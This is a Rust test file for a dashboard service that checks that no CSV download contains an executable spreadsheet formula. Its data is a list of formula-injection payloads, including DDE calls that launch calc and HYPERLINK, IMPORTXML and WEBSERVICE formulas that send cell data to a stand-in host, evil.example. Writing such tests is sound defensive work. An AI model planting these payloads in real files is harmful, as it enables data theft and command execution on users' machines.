//! Everything that can be downloaded as CSV, full of what spreadsheets would run: no cell is a formula, and each says
//! again what it was.

mod desk;

use axum::body::Body;
use axum::http::Request;
use desk::{Desk, event};
use serde_json::json;

/// What a spreadsheet would compute, call or fetch; from the published lists, and full-width forms.
const FORMULAS: [&str; 25] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "-inf",
    "--1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "=\"a\"\"b\"",
    "=1,2",
    "=1\n2",
    "\"=1+1",
    ";=1+1",
];
const SIGNS: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠',
];

/// Reads with another's parser; every cell, and what stands behind the apostrophe of those that have one.
fn cells(text: &str) -> Vec<(String, String)> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut all = Vec::new();
    for row in reader.records() {
        for cell in &row.expect("a row") {
            let said = cell
                .strip_prefix('\'')
                .filter(|rest| rest.starts_with(SIGNS));
            all.push((cell.to_owned(), said.unwrap_or(cell).to_owned()));
        }
    }
    all
}

fn harmless(place: &str, text: &str) -> usize {
    let all = cells(text);
    for (cell, _) in &all {
        let number = cell.parse::<f64>().is_ok() && !cell.contains(['i', 'n']);
        assert!(!cell.starts_with(SIGNS) || number, "{place}: {cell:?}");
    }
    all.len()
}

#[tokio::test]
async fn no_download_holds_a_formula() {
    let desk = Desk::new();
    let mut events = Vec::new();
    for (n, evil) in FORMULAS.iter().enumerate() {
        let n = n as u64 * 4;
        // A name with a NUL or a line break is none that the collector takes; the others come in everywhere.
        let named = evil.replace(['\0', '\t', '\r', '\n'], "");
        for (k, name) in [
            "survey.answered",
            "inquiry.submitted",
            "help.searched",
            "host.x",
        ]
        .iter()
        .enumerate()
        {
            events.push(event(n + k as u64, name, json!({"user": named, "account": named, "content": named, "step": named, "variant": named,
                "data": {"text": evil, "question": evil, "choice": evil, "category": evil, "query": evil, "kind": "text"}})));
        }
    }
    let mut taken = 0;
    for part in events.chunks(40) {
        taken += desk
            .send(part)
            .await
            .iter()
            .filter(|s| *s == "accepted")
            .count();
    }
    assert!(taken >= 80, "{taken}");
    let told: Vec<_> = FORMULAS
        .iter()
        .enumerate()
        .map(|(n, evil)| json!({"id": format!("a{n}"), "name": evil.replace('\0', ""), "plan": evil.replace('\0', ""), "owner": {"name": evil.replace('\0', ""), "mail": "o@kumo.example"}}))
        .collect();
    assert_eq!(
        desk.call("PUT", "/v1/accounts", json!(told).to_string())
            .await
            .status,
        200
    );

    let export = desk.get("/v1/export/csv").await.body;
    let all = cells(&export);
    harmless("export", &export);
    for evil in FORMULAS
        .iter()
        .filter(|f| !f.contains(['\0', '\t', '\r', '\n']))
    {
        assert!(
            all.iter().any(|(_, said)| said == evil),
            "{evil:?} is said again"
        );
    }
    let cookie = desk.sign_in().await;
    let mut seen = 0;
    for page in [
        "accounts",
        "today",
        "topics",
        "uniformity",
        "inquiries",
        "experiments",
        "escalations",
        "business",
        "nps",
        "content",
        "rules",
        "accounts/a0",
        "accounts/%3D1%2B1/people/%3D1%2B1",
    ] {
        let path = format!("/dashboard/en/{page}?format=csv&scope=all");
        let request = Request::get(&path).header("cookie", &cookie);
        let answer = desk
            .ask(request.body(Body::empty()).expect("request"))
            .await;
        if answer.status == 200 {
            seen += harmless(page, &answer.body);
        }
    }
    assert!(seen > 100, "{seen} cells");
}
